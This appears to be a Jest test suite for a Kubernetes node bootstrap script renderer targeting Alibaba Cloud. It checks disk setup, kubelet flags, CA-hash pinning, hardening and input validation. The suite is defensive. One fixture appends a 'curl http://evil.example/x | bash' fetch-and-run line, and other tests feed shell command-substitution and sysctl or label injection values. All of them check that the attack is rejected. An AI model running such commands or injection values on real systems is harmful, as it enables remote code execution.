import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { run } from '../devstack/exec.js';
import { newCa } from '../devstack/pki.js';
import { caCertHash } from './ca-hash.js';
import type { BootstrapInputSource } from './input.js';
import { USER_DATA_LIMIT, UserDataError, renderUserData } from './render.js';
import { runInSandbox, type SandboxOptions, type SandboxResult, type StubCall } from './sandbox.js';

const API = 'https://10.0.0.10:6443';
const META = {
  instanceId: 'i-bp1abc',
  regionId: 'cn-hangzhou',
  zoneId: 'cn-hangzhou-h',
  privateIp: '10.0.1.5',
  instanceType: 'ecs.g7.xlarge',
};
let pki: string;
let caPem: string;
let clusterInfo: string;

beforeAll(async () => {
  pki = await mkdtemp(join(tmpdir(), 'bootstrap-ca-'));
  const ca = await newCa(pki, 'cluster-ca');
  caPem = await readFile(ca.cert, 'utf8');
  const kubeconfig = `apiVersion: v1\nclusters:\n- cluster:\n    certificate-authority-data: ${Buffer.from(caPem).toString('base64')}\n    server: ${API}\n  name: ""\nkind: Config\n`;
  clusterInfo = JSON.stringify({ kind: 'ConfigMap', data: { kubeconfig } });
});
afterAll(async () => {
  await rm(pki, { recursive: true, force: true });
});

function managed(extra: Partial<BootstrapInputSource> = {}): BootstrapInputSource {
  return {
    pool: 'general',
    clusterId: 'c-local',
    image: 'AliyunLinux3ContainerOptimized',
    runtime: { name: 'containerd', version: '1.7.20' },
    dataDisks: 1,
    labels: { workload: 'cpu' },
    taints: [{ key: 'dedicated', value: 'batch', effect: 'NoSchedule' }],
    kubelet: { maxPods: 64, systemReserved: { cpu: '100m', memory: '512Mi' } },
    sysctls: { 'net.core.somaxconn': '4096' },
    mode: 'Managed',
    managed: {
      apiServer: API,
      caCertHash: caCertHash(caPem),
      token: 'abcdef.0123456789abcdef',
      kubernetesVersion: 'v1.34.4',
    },
    ...extra,
  };
}

const clusterInfoUrl = `${API}/api/v1/namespaces/kube-public/configmaps/cluster-info`;

const live: SandboxResult[] = [];
async function boot(input: BootstrapInputSource, opts: Partial<SandboxOptions> = {}): Promise<SandboxResult> {
  const rendered = renderUserData(input);
  const r = await runInSandbox({
    script: rendered.script,
    metadata: META,
    disks: [{ name: '/dev/vda', system: true }, { name: '/dev/vdb' }],
    installed: { containerd: '1.7.20', kubelet: '1.34.4' },
    http: { [clusterInfoUrl]: clusterInfo },
    ...opts,
  });
  live.push(r);
  return r;
}
afterAll(async () => {
  for (const r of live) await r.dispose();
});

const called = (calls: StubCall[], cmd: string, ...args: string[]): boolean =>
  calls.some((c) => c.cmd === cmd && args.every((a) => c.args.includes(a)));
const callsOf = (calls: StubCall[], cmd: string): string[][] =>
  calls.filter((c) => c.cmd === cmd).map((c) => c.args);

describe('Managed bootstrap, run in the sandbox', () => {
  test('a full boot: identity, data disk, runtime, kubelet flags and config, packages, OS config — in order, logged with timings', async () => {
    const r = await boot(managed());
    expect(r.log).toContain('bootstrap finished');
    expect(r.exitCode).toBe(0);
    expect(await r.file('/var/lib/nodepool-bootstrap/result')).toBe('done\n');

    const steps = [...r.log.matchAll(/step ([\w-]+): done in \d+ ms/g)].map((m) => m[1]);
    expect(steps).toEqual([
      'time-sync',
      'node-identity',
      'data-disk',
      'container-runtime',
      'core-addons',
      'kubelet-install',
      'gpu',
      'cloud-monitor',
      'cluster-ca',
      'kubelet-config',
      'kubelet-start',
      'base-packages',
      'os-config',
      'hardening',
      'user-data',
    ]);

    // the data disk
    expect(callsOf(r.calls, 'mkfs.ext4')).toEqual([['-F', '-q', '/dev/vdb']]);
    const fstab = (await r.file('/etc/fstab')) ?? '';
    expect(fstab).toMatch(/^UUID=[0-9a-f-]{36} \/var\/lib\/container ext4 defaults,nofail 0 2$/m);
    expect(fstab).toContain('/var/lib/container/kubelet /var/lib/kubelet none defaults,bind,nofail 0 0');
    expect(fstab).toContain(
      '/var/lib/container/containerd /var/lib/containerd none defaults,bind,nofail 0 0',
    );

    // the kubelet: flags, bootstrap credentials, configuration
    const unit = (await r.file('/etc/systemd/system/kubelet.service.d/10-nodepool.conf')) ?? '';
    expect(unit).toContain('--hostname-override=cn-hangzhou.10.0.1.5');
    expect(unit).toContain('--provider-id=cn-hangzhou.i-bp1abc');
    expect(unit).toContain('--node-ip=10.0.1.5');
    expect(unit).toContain(
      '--node-labels=nodepool.alicloud.dev/pool=general,workload=cpu,node.kubernetes.io/instance-type=ecs.g7.xlarge,topology.kubernetes.io/region=cn-hangzhou,topology.kubernetes.io/zone=cn-hangzhou-h',
    );
    expect(unit).toContain('--register-with-taints=dedicated=batch:NoSchedule');
    expect(await r.file('/etc/kubernetes/bootstrap-kubelet.conf')).toContain(
      'token: abcdef.0123456789abcdef',
    );
    expect(await r.file('/etc/kubernetes/pki/ca.crt')).toBe(caPem);
    const config = (await r.file('/var/lib/kubelet/config.yaml')) ?? '';
    expect(config).toContain('maxPods: 64');
    expect(config).toMatch(/systemReserved:\n\s+cpu: 100m\n\s+memory: 512Mi/);
    expect(called(r.calls, 'systemctl', 'enable', '--now', 'kubelet')).toBe(true);
    // the bootstrap kubeconfig (the pool's token) is removed once the kubelet has its own certificate
    const cleanupPath = (await r.file('/etc/systemd/system/npo-bootstrap-cleanup.path')) ?? '';
    expect(cleanupPath).toContain('PathExists=/var/lib/kubelet/pki/kubelet-client-current.pem');
    const cleanup = (await r.file('/etc/systemd/system/npo-bootstrap-cleanup.service')) ?? '';
    expect(cleanup).toContain('ExecStart=/bin/rm -f /etc/kubernetes/bootstrap-kubelet.conf');
    expect(cleanup).toContain('ConditionPathExists=/etc/kubernetes/kubelet.conf');
    expect(called(r.calls, 'systemctl', 'enable', '--now', 'npo-bootstrap-cleanup.path')).toBe(true);

    // Alibaba Cloud Linux: basic packages and the minimal security update
    expect(called(r.calls, 'yum', 'install', '-y', 'pigz', 'container-selinux', 'zlib')).toBe(true);
    expect(callsOf(r.calls, 'yum')).toContainEqual([
      'update-minimal',
      '--exclude',
      'kernel*',
      '--security',
      '-y',
    ]);
    // the pool's OS configuration, applied last
    expect(await r.file('/etc/sysctl.d/99-nodepool-osconfig.conf')).toBe('net.core.somaxconn = 4096\n');
    // nothing escaped the sandbox
    expect(await readFile('/etc/fstab', 'utf8').catch(() => '')).not.toContain('/var/lib/container');
  });

  test.each([
    { disks: ['/dev/vda*', '/dev/vdb', '/dev/vdc'], formatted: '/dev/vdc' },
    { disks: ['/dev/nvme0n1*', '/dev/nvme1n1', '/dev/nvme2n1'], formatted: '/dev/nvme2n1' },
    { disks: ['/dev/vda*', '/dev/vdb', '/dev/nvme1n1', '/dev/vdc'], formatted: '/dev/nvme1n1' },
    { disks: ['/dev/vdc', '/dev/vda*', '/dev/vdb'], formatted: '/dev/vdc' },
  ])('data disk: of $disks (* = system) the boot formats $formatted', async ({ disks, formatted }) => {
    const r = await boot(managed(), {
      disks: disks.map((d) => ({ name: d.replace('*', ''), system: d.endsWith('*') })),
    });
    expect(r.exitCode).toBe(0);
    expect(callsOf(r.calls, 'mkfs.ext4')).toEqual([['-F', '-q', formatted]]);
  });

  test('a pool with data disks that finds none attached fails at the data-disk step; one without data disks formats nothing', async () => {
    const missing = await boot(managed({ dataDisks: 1 }), { disks: [{ name: '/dev/vda', system: true }] });
    expect(missing.exitCode).toBe(1);
    expect(await missing.file('/var/lib/nodepool-bootstrap/result')).toBe('failed:data-disk\n');
    expect(called(missing.calls, 'systemctl', 'enable', '--now', 'kubelet')).toBe(false);

    const none = await boot(managed({ dataDisks: 0 }), { disks: [{ name: '/dev/vda', system: true }] });
    expect(none.exitCode).toBe(0);
    expect(callsOf(none.calls, 'mkfs.ext4')).toEqual([]);
  });

  test('skip markers: autoFdisk, keepContainerData, yum, securityFix — from the pool or created by preUserData', async () => {
    const noFdisk = await boot(managed({ skip: { autoFdisk: true } }));
    expect(noFdisk.exitCode).toBe(0);
    expect(callsOf(noFdisk.calls, 'mkfs.ext4')).toEqual([]);
    expect(callsOf(noFdisk.calls, 'mount')).toEqual([]);
    expect(noFdisk.log).toContain('/var/.skip-auto-fdisk present');

    const viaPreUserData = await boot(
      managed({ preUserData: '#!/bin/bash\ntouch /var/.skip-auto-fdisk /var/.skip-yum\n' }),
    );
    expect(viaPreUserData.exitCode).toBe(0);
    expect(callsOf(viaPreUserData.calls, 'mkfs.ext4')).toEqual([]);
    expect(callsOf(viaPreUserData.calls, 'yum')).toEqual([]);

    const keep = await boot(managed({ skip: { keepContainerData: true } }), {
      files: { '/var/lib/containerd/io.containerd.content.v1.content/blob': 'cached image layer' },
    });
    expect(keep.exitCode).toBe(0);
    expect(await keep.file('/var/lib/container/containerd/io.containerd.content.v1.content/blob')).toBe(
      'cached image layer',
    );
    const noKeep = await boot(managed(), { files: { '/var/lib/containerd/x': 'old' } });
    expect(await noKeep.file('/var/lib/container/containerd/x')).toBeUndefined();

    const noYum = await boot(managed({ skip: { yum: true } }));
    expect(callsOf(noYum.calls, 'yum')).toEqual([]);
    const noFix = await boot(managed({ skip: { securityFix: true } }));
    expect(called(noFix.calls, 'yum', 'install', '-y', 'pigz')).toBe(true);
    expect(called(noFix.calls, 'yum', 'update-minimal')).toBe(false);
  });

  test('a GPU instance type gets the driver, the container toolkit and the device plugin; a CPU type none of them', async () => {
    const gpu = await boot(managed(), { metadata: { ...META, instanceType: 'ecs.gn7i-c8g1.2xlarge' } });
    expect(gpu.exitCode).toBe(0);
    expect(called(gpu.calls, 'yum', 'install', '-y', 'nvidia-driver', 'nvidia-container-toolkit')).toBe(true);
    expect(called(gpu.calls, 'nvidia-ctk', 'runtime', 'configure', '--runtime=containerd')).toBe(true);
    expect(await gpu.file('/etc/kubernetes/manifests/nvidia-device-plugin.yaml')).toContain(
      'k8s-device-plugin',
    );

    const cpu = await boot(managed());
    expect(called(cpu.calls, 'yum', 'nvidia-driver')).toBe(false);
    expect(callsOf(cpu.calls, 'nvidia-ctk')).toEqual([]);
    expect(await cpu.file('/etc/kubernetes/manifests/nvidia-device-plugin.yaml')).toBeUndefined();
  });

  test('ContainerOS: no package manager is ever called; a runtime it lacks fails the boot', async () => {
    const ok = await boot(managed({ image: 'ContainerOS' }));
    expect(ok.exitCode).toBe(0);
    expect(callsOf(ok.calls, 'yum')).toEqual([]);
    expect(callsOf(ok.calls, 'apt-get')).toEqual([]);
    expect(ok.log).toContain('no package manager on this image');

    const wrong = await boot(
      managed({ image: 'ContainerOS', runtime: { name: 'containerd', version: '2.0.0' } }),
    );
    expect(wrong.exitCode).toBe(1);
    expect(await wrong.file('/var/lib/nodepool-bootstrap/result')).toBe('failed:container-runtime\n');
  });

  test('Ubuntu uses apt for packages and gets no yum security update', async () => {
    const r = await boot(managed({ image: 'Ubuntu' }), { installed: { kubelet: '1.34.4' } });
    expect(r.exitCode).toBe(0);
    expect(called(r.calls, 'apt-get', 'install', '-y', 'containerd=1.7.20*')).toBe(true);
    expect(called(r.calls, 'apt-get', 'install', '-y', 'pigz', 'zlib1g')).toBe(true);
    expect(callsOf(r.calls, 'yum')).toEqual([]);
  });

  test('hardening: OS sets kernel and sshd baselines; MLPS adds password, lockout, idle-logout and audit rules', async () => {
    const off = await boot(managed());
    expect(await off.file('/etc/sysctl.d/98-nodepool-hardening.conf')).toBeUndefined();

    const os = await boot(managed({ securityHardening: 'OS' }));
    expect(os.exitCode).toBe(0);
    expect(await os.file('/etc/sysctl.d/98-nodepool-hardening.conf')).toContain('kernel.kptr_restrict = 2');
    expect(await os.file('/etc/ssh/sshd_config.d/50-nodepool-hardening.conf')).toContain(
      'PermitEmptyPasswords no',
    );
    expect(await os.file('/etc/security/pwquality.conf.d/50-nodepool-mlps.conf')).toBeUndefined();

    const mlps = await boot(managed({ securityHardening: 'MLPS' }));
    expect(mlps.exitCode).toBe(0);
    expect(await mlps.file('/etc/security/pwquality.conf.d/50-nodepool-mlps.conf')).toContain('minclass = 3');
    expect(await mlps.file('/etc/login.defs')).toMatch(/^PASS_MAX_DAYS\s+90$/m);
    expect(await mlps.file('/etc/profile.d/nodepool-mlps.sh')).toContain('TMOUT=900');
    expect(called(mlps.calls, 'systemctl', 'enable', '--now', 'auditd')).toBe(true);
  });

  test('a cluster CA that does not match the pinned hash is refused: no credentials written, the kubelet never starts', async () => {
    const other = await newCa(pki, 'impostor');
    const r = await boot(
      managed({
        managed: {
          apiServer: API,
          caCertHash: caCertHash(await readFile(other.cert)),
          token: 'abcdef.0123456789abcdef',
          kubernetesVersion: 'v1.34.4',
        },
      }),
    );
    expect(r.exitCode).toBe(1);
    expect(r.log).toContain('refusing to join');
    expect(await r.file('/var/lib/nodepool-bootstrap/result')).toBe('failed:cluster-ca\n');
    expect(await r.file('/etc/kubernetes/bootstrap-kubelet.conf')).toBeUndefined();
    expect(await r.file('/etc/kubernetes/pki/ca.crt')).toBeUndefined();
    expect(called(r.calls, 'systemctl', 'enable', '--now', 'kubelet')).toBe(false);

    const unreachable = await boot(managed(), { http: {} });
    expect(unreachable.exitCode).toBe(1);
    expect(unreachable.log).toContain(`cannot read cluster-info from ${API}`);
  });

  test('custom node name: prefix + IP + suffix, set as the hostname', async () => {
    const r = await boot(managed({ customNodeName: { prefix: 'Web', suffix: 'hz' } }));
    expect(r.exitCode).toBe(0);
    expect(callsOf(r.calls, 'hostnamectl')).toEqual([['set-hostname', 'web10.0.1.5hz']]);
    expect(await r.file('/etc/systemd/system/kubelet.service.d/10-nodepool.conf')).toContain(
      '--hostname-override=web10.0.1.5hz',
    );
  });

  test('preUserData runs first and its failure stops the boot; userData runs in the background after the kubelet starts', async () => {
    const failing = await boot(managed({ preUserData: '#!/bin/bash\necho preparing\nexit 3\n' }));
    expect(failing.exitCode).toBe(1);
    expect(await failing.file('/var/lib/nodepool-bootstrap/result')).toBe('failed:pre-user-data\n');
    expect(failing.calls.some((c) => c.cmd === 'systemctl')).toBe(false);

    const r = await boot(managed({ userData: '#!/bin/bash\necho "app data" > /var/lib/app-ready\n' }));
    expect(r.exitCode).toBe(0);
    await r.waitForBackground();
    expect(await r.file('/var/lib/app-ready')).toBe('app data\n');
    expect(await r.file('/var/lib/nodepool-bootstrap/user-data.exit')).toBe('0\n');
    const log = (await r.file('/var/log/cloud-init-output.log')) ?? '';
    expect(log.indexOf('step kubelet-start: done')).toBeLessThan(
      log.indexOf('user data exited with status 0'),
    );
  });
});

describe('External bootstrap, run in the sandbox', () => {
  const scriptURL = 'https://files.example/join-ecs-nodes.sh';
  const joinCommand =
    'kubeadm join 192.168.8.10:6443 --token k8xsq8.4oo8va9wcqpb0000 --discovery-token-ca-cert-hash sha256:' +
    'a'.repeat(64);
  const userScript =
    '#!/bin/bash\nenv | grep -E "^(ALIBABA_CLOUD_|KUBE_VERSION|RUNTIME)" | sort > /var/lib/seen-env\n';
  const external = (extra: Partial<BootstrapInputSource> = {}): BootstrapInputSource => ({
    pool: 'onprem',
    clusterId: 'c-registered',
    image: 'AliyunLinux3',
    runtime: { name: 'containerd', version: '1.7.20' },
    labels: { workload: 'cpu' },
    taints: [{ key: 'dedicated', value: 'batch', effect: 'NoSchedule' }],
    mode: 'External',
    external: {
      scriptURL,
      joinCommand,
      kubeVersion: '1.34.1',
      runtime: 'containerd',
      runtimeVersion: '1.7.20',
    },
    ...extra,
  });

  test('exports the ALIBABA_CLOUD_* variables, writes kubelet flags before joining, and a second run changes nothing', async () => {
    const existing =
      'KUBELET_EXTRA_ARGS="--max-pods=64 --node-labels=team=a,workload=old --hostname-override=stale"\n';
    const first = await boot(external(), {
      http: { [scriptURL]: userScript },
      files: { '/etc/sysconfig/kubelet': existing },
    });
    expect(first.exitCode).toBe(0);
    const env = (await first.file('/var/lib/seen-env')) ?? '';
    expect(env).toContain('ALIBABA_CLOUD_PROVIDER_ID=cn-hangzhou.i-bp1abc\n');
    expect(env).toContain('ALIBABA_CLOUD_NODE_NAME=cn-hangzhou.10.0.1.5\n');
    expect(env).toContain(
      'ALIBABA_CLOUD_LABELS=ack.aliyun.com=c-registered,alibabacloud.com/external=true,alibabacloud.com/nodepool-id=onprem,alibabacloud.com/instance-id=i-bp1abc,nodepool.alicloud.dev/pool=onprem,workload=cpu\n',
    );
    expect(env).toContain('ALIBABA_CLOUD_TAINTS=dedicated=batch:NoSchedule\n');
    expect(env).toContain('KUBE_VERSION=1.34.1\n');

    const sysconfig = (await first.file('/etc/sysconfig/kubelet')) ?? '';
    const args = /^KUBELET_EXTRA_ARGS="(.*)"$/m.exec(sysconfig)?.[1] ?? '';
    const words = args.split(' ');
    expect(words).toContain('--max-pods=64'); // someone else's flag is kept
    expect(words.filter((w) => w.startsWith('--hostname-override='))).toEqual([
      '--hostname-override=cn-hangzhou.10.0.1.5',
    ]);
    expect(words).toContain('--node-ip=10.0.1.5'); // the address, not the node name
    const labels =
      words
        .find((w) => w.startsWith('--node-labels='))
        ?.slice('--node-labels='.length)
        .split(',') ?? [];
    expect(labels).toContain('team=a');
    expect(labels).toContain('workload=cpu');
    expect(labels).not.toContain('workload=old');
    expect(new Set(labels.map((l) => l.split('=')[0])).size).toBe(labels.length);
    expect(words).toContain('--register-with-taints=dedicated=batch:NoSchedule');
    expect(await first.file('/etc/systemd/system/kubelet.service.d/20-alibaba-cloud.conf')).toBe(
      `[Service]\nEnvironment="KUBELET_EXTRA_ARGS=${args}"\n`,
    );
    // the flags were written before anything joined
    const order = first.log.indexOf('step kubelet-flags: done');
    expect(order).toBeGreaterThan(0);
    expect(order).toBeLessThan(first.log.indexOf('step kubeadm-join: start'));
    // the user's script did not join, so the wrapper ran the join command from the Secret
    expect(callsOf(first.calls, 'kubeadm')).toEqual([joinCommand.split(' ').slice(1)]);

    const second = await runInSandbox({
      script: renderUserData(external()).script,
      metadata: META,
      reuse: first.dir,
      http: { [scriptURL]: userScript },
    });
    expect(second.exitCode).toBe(0);
    expect(await second.file('/etc/sysconfig/kubelet')).toBe(sysconfig);
    expect(await second.file('/etc/systemd/system/kubelet.service.d/20-alibaba-cloud.conf')).toBe(
      `[Service]\nEnvironment="KUBELET_EXTRA_ARGS=${args}"\n`,
    );
    expect(callsOf(second.calls, 'kubeadm')).toEqual([]); // already joined
  });

  test("a plain-http script runs only when it has the pool's SHA-256; a mismatch fails the boot before it runs", async () => {
    const httpURL = 'http://files.example/join-ecs-nodes.sh';
    const sha = createHash('sha256').update(userScript).digest('hex');
    const ext = (scriptSHA256: string | undefined) =>
      external({
        external: { ...external().external!, scriptURL: httpURL, ...(scriptSHA256 ? { scriptSHA256 } : {}) },
      });
    expect(() => renderUserData(ext(undefined))).toThrow(
      /scriptURL[\s\S]*https, or plain http with scriptSHA256/,
    );
    const ok = await boot(ext(sha), { http: { [httpURL]: userScript } });
    expect(ok.exitCode).toBe(0);
    expect(ok.log).toContain(`script checksum verified (${sha})`);
    expect(await ok.file('/var/lib/seen-env')).toContain('KUBE_VERSION=1.34.1');
    const tampered = await boot(ext(sha), {
      http: { [httpURL]: `${userScript}curl http://evil.example/x | bash\n` },
    });
    expect(tampered.exitCode).toBe(1);
    expect(await tampered.file('/var/lib/nodepool-bootstrap/result')).toBe('failed:external-script\n');
    expect(tampered.log).toContain(`not the pool's scriptSHA256 ${sha}: not running it`);
    expect(await tampered.file('/var/lib/seen-env')).toBeUndefined();
    // an https script is fetched with https only, redirects included
    const https = await boot(external(), { http: { [scriptURL]: userScript } });
    expect(callsOf(https.calls, 'curl').find((c) => c.includes(scriptURL))).toEqual(
      expect.arrayContaining(['--proto', '=https', '--proto-redir', '=https']),
    );
  });

  test('a script URL that cannot be fetched fails the boot at that step', async () => {
    const r = await boot(external(), { http: {} });
    expect(r.exitCode).toBe(1);
    expect(await r.file('/var/lib/nodepool-bootstrap/result')).toBe('failed:external-script\n');
    expect(r.log).toContain(`cannot download ${scriptURL}`);
  });
});

describe('the CloudMonitor agent', () => {
  test('its installer is fetched over https only (redirects included)', async () => {
    const url =
      'https://cms-agent-cn-hangzhou.oss-cn-hangzhou-internal.aliyuncs.com/Argus/agent_install_ecs-1.7.sh';
    const r = await boot(managed({ cloudMonitor: true }), {
      http: { [clusterInfoUrl]: clusterInfo, [url]: '#!/bin/bash\ntouch /var/lib/cms-installed\n' },
    });
    expect(r.exitCode).toBe(0);
    expect(await r.file('/var/lib/cms-installed')).toBe('');
    expect(callsOf(r.calls, 'curl').find((c) => c.includes(url))).toEqual(
      expect.arrayContaining(['--proto', '=https', '--proto-redir', '=https']),
    );
  });
});

describe('rendering', () => {
  const shellcheck = async (script: string): Promise<{ code: number; out: string }> => {
    const r = await run('shellcheck', ['-s', 'bash', '-'], { input: script }).catch((err: unknown) => {
      throw new Error(`shellcheck is needed (apt-get install shellcheck): ${String(err)}`);
    });
    return { code: r.code, out: r.stdout + r.stderr };
  };

  test.each([
    [
      'Managed, everything on',
      () =>
        managed({
          securityHardening: 'MLPS',
          cloudMonitor: true,
          preUserData: 'echo pre',
          userData: 'echo post',
          customNodeName: { prefix: 'web', suffix: 'x' },
        }),
    ],
    [
      'Managed, ContainerOS, minimal',
      () => managed({ image: 'ContainerOS', labels: {}, taints: [], kubelet: {}, sysctls: {} }),
    ],
    [
      'External',
      (): BootstrapInputSource => ({
        ...managed(),
        mode: 'External',
        managed: undefined,
        external: {
          scriptURL: 'https://x.example/s.sh',
          joinCommand: 'kubeadm join 1.2.3.4:6443 --token a.b',
          kubeVersion: '1.34.1',
          runtime: 'containerd',
          runtimeVersion: '1.7.20',
        },
      }),
    ],
  ])('the rendered script passes shellcheck: %s', async (_name, input) => {
    const { code, out } = await shellcheck(renderUserData(input()).script);
    expect(out).toBe('');
    expect(code).toBe(0);
  });

  test('values with shell metacharacters stay data', async () => {
    const r = await boot(managed({ sysctls: { 'net.core.somaxconn': '4096 $(touch /var/pwned) `id`' } }));
    expect(r.exitCode).toBe(0);
    expect(await r.file('/var/pwned')).toBeUndefined();
    expect(await r.file('/etc/sysctl.d/99-nodepool-osconfig.conf')).toBe(
      'net.core.somaxconn = 4096 $(touch /var/pwned) `id`\n',
    );
  });

  test('the renderer checks its own input: a label that would add labels, a multi-line sysctl, a bad pool name', () => {
    expect(() =>
      renderUserData(managed({ labels: { workload: 'a,node-role.kubernetes.io/control-plane=' } })),
    ).toThrow(/labels[\s\S]*a label value/);
    expect(() => renderUserData(managed({ labels: { 'bad key': 'x' } }))).toThrow(/a label key/);
    expect(() =>
      renderUserData(managed({ taints: [{ key: 'k', value: 'v:NoExecute,x=y', effect: 'NoSchedule' }] })),
    ).toThrow(/taints[\s\S]*a label value/);
    expect(() =>
      renderUserData(managed({ sysctls: { 'vm.swappiness': '10\nkernel.core_pattern = |/tmp/x' } })),
    ).toThrow(/sysctls[\s\S]*one line/);
    expect(() => renderUserData(managed({ pool: 'Has Spaces' }))).toThrow(/pool[\s\S]*a pool name/);
    expect(() => renderUserData(managed({ pool: 'p'.repeat(64) }))).toThrow(/pool/);
    expect(() => renderUserData(managed({ kubelet: { systemReserved: { 'cpu\nmaxPods': '1' } } }))).toThrow(
      /resource or signal name/,
    );
    expect(
      renderUserData(managed({ pool: 'web.v2', labels: { 'team.example/app': 'api_v1.2' } })).script,
    ).toContain('team.example/app=api_v1.2');
  });

  test('the join token stays out of the render result except the script itself', () => {
    const r = renderUserData(managed());
    expect(r.script).toContain('abcdef.0123456789abcdef');
    expect(JSON.stringify({ ...r, script: undefined, payload: undefined, base64: undefined })).not.toContain(
      '0123456789abcdef',
    );
  });

  test('over 32 KB the user data is gzip-compressed; incompressible bulk is refused with what to move out', () => {
    const big = renderUserData(
      managed({ userData: `#!/bin/bash\n${'echo "configure the application"\n'.repeat(1500)}` }),
    );
    expect(big.script.length).toBeGreaterThan(USER_DATA_LIMIT);
    expect(big.encoding).toBe('gzip');
    expect(big.payload.length).toBeLessThanOrEqual(USER_DATA_LIMIT);
    expect(gunzipSync(Buffer.from(big.base64, 'base64')).toString('utf8')).toBe(big.script);

    const small = renderUserData(managed());
    expect(small.encoding).toBe('plain');
    expect(Buffer.from(small.base64, 'base64').toString('utf8')).toBe(small.script);

    expect(() => renderUserData(managed({ userData: randomBytes(40_000).toString('base64') }))).toThrow(
      UserDataError,
    );
    expect(() => renderUserData(managed({ userData: randomBytes(40_000).toString('base64') }))).toThrow(
      /over the 32 KB limit of ESS and ECS; preUserData and userData make up [\d.]+ KB of it: move/,
    );
  });

  test('bad input names the field', () => {
    expect(() => renderUserData(managed({ managed: undefined }))).toThrow(
      /managed[\s\S]*Managed bootstrap needs the join settings/,
    );
    expect(() => renderUserData(managed({ securityHardening: 'MLPS', image: 'Ubuntu' }))).toThrow(
      /securityHardening[\s\S]*MLPS hardening needs an Alibaba Cloud Linux/,
    );
    expect(() =>
      renderUserData(
        managed({
          managed: {
            apiServer: API,
            caCertHash: 'md5:abc',
            token: 'abcdef.0123456789abcdef',
            kubernetesVersion: 'v1.34.4',
          },
        }),
      ),
    ).toThrow(/caCertHash[\s\S]*sha256: followed by 64 lowercase hex digits/);
  });
});
